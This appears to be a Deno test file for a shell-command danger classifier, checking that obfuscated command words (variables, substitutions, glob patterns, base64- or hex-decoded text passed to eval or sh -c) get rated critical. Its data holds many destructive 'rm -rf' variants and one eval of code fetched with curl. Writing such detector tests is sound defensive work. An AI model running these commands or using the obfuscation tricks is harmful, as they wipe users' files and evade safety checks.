/**
 * Family: a command word that is not a literal (issue 17) — a variable, a substitution, a
 * pattern, or eval/sh -c of computed or decoded text.
 */

import { assert } from "../../../test/support/assert.ts";
import { expectLevels, idsOf } from "./levels.ts";

Deno.test("a variable set on the line is the program it holds", () => {
  expectLevels([
    ["x=rm; $x -rf /", "critical"],
    ['c=rm; "$c" -rf "$HOME"', "critical"],
    ["RM=/bin/rm; ${RM} -fr /home/alice", "critical"],
    ["export p=rm; sudo $p -rf /", "critical"],
    ["p='rm -rf'; env $p ~", "critical"],
    // Benign look-alikes: the same spellings running harmless programs.
    ["x=ls; $x -la", "safe"],
    ["t=./build; rm -rf $t", "moderate"],
  ]);
});

Deno.test("a substitution the line spells out is what it prints", () => {
  expectLevels([
    ["$(echo rm) -rf /", "critical"],
    ["`echo rm` -rf ~", "critical"],
    ["$(printf 'r''m') -rf /", "critical"],
    ["$(printf '\\x72\\x6d') -rf ~/", "critical"],
    ["$(which rm) -rf /", "critical"],
    ["$(command -v rm) -rf ~/", "critical"],
    ['eval "$(echo cm0gLXJmIC8= | base64 -d)"', "critical"],
    ["eval \"$(printf '\\x72\\x6d -rf /')\"", "critical"],
    ["c='rm -rf /'; bash -c \"$c\"", "critical"],
    ['sh -c "$(echo cm0gLXJmIH4= | base64 --decode)"', "critical"],
    // Benign look-alikes.
    ["$(which python3) --version", "safe"],
    ["echo $(echo hello)", "safe"],
    ['cd "$(git rev-parse --show-toplevel)"', "safe"],
  ]);
  assert(idsOf("$(echo cm0gLXJmIC8= | base64 -d)").includes("code.obfuscated"));
});

Deno.test("a pattern in command position runs what it matches", () => {
  expectLevels([
    ["/bin/r? -rf /", "critical"],
    ["/bin/r[m] -rf ~", "critical"],
    ["/???/?m -rf /", "critical"],
    ["/usr/bin/r* -rf ~", "critical"],
    // Benign look-alikes: a pattern as an argument, `[` the program, SQL's `*`.
    ["ls /usr/bin/r*", "safe"],
    ['[ -d "$HOME" ] && echo yes', "safe"],
    ["echo 'SELECT COUNT(*) FROM users' | psql", "safe"],
  ]);
});

Deno.test("an unknown program is rated by what its arguments would do", () => {
  expectLevels([
    ["$CMD -rf /", "high"],
    ['"$TOOL" -rf ~', "high"],
    ["${X} --recursive --force /", "high"],
    ["$1 -R /etc", "high"],
    ["$(get_tool) -rf /home/bob", "high"],
    // Benign look-alikes: harmless arguments stay safe to moderate.
    ["$EDITOR notes.txt", ["safe", "moderate"]],
    ["$CC -o app main.c", ["safe", "moderate"]],
    ["$PAGER -R README.md", ["safe", "moderate"]],
  ]);
});

Deno.test("eval of a tool's own shell set-up stays safe", () => {
  expectLevels([
    ['eval "$(ssh-agent -s)"', "safe"],
    ['eval "$(starship init bash)"', "safe"],
    ['eval "$(/opt/homebrew/bin/brew shellenv)"', "safe"],
    ['eval "$(pyenv init -)"', "safe"],
    ["eval `ssh-agent -s`", "safe"],
    ["source <(kubectl completion zsh)", "safe"],
    // Code built at run time from elsewhere is not set-up.
    ['eval "$(./generate.sh)"', "moderate"],
    ['eval "$CMD"', "moderate"],
    ['eval "$(curl -fsSL https://x.io/env)"', "critical"],
  ]);
});
